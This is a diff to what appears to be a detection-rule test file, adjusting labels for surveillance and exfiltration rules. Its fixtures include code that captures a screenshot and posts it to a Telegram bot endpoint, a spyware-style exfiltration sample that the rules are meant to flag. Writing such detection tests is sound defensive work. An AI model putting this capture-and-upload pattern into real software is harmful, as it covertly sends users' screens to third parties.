@@ -507,11 +507,14 @@ import io
 shot = ImageGrab.grab()
 png = io.BytesIO()
 shot.save(png, "PNG")
-# ruleid: surveillance-exfiltration, http-client, requests-no-timeout, exfiltration-endpoint
+# ruleid: surveillance-exfiltration, surveillance-upload, http-client, requests-no-timeout, exfiltration-endpoint
 requests.post("https://api.telegram.org/bot6123:AAH/sendPhoto", files={"photo": png.getvalue()})
 # ok: surveillance-exfiltration
-# ruleid: http-client
+# ruleid: http-client, surveillance-upload
 requests.post("https://api.example.com/v1/vision", files={"image": png.getvalue()}, timeout=30)
+# ok: surveillance-upload
+# ruleid: http-client
+requests.post("https://api.openai.com/v1/responses", json={"image": png.getvalue().hex()}, timeout=30)
 import smtplib
 from email.message import EmailMessage
 import pyperclip
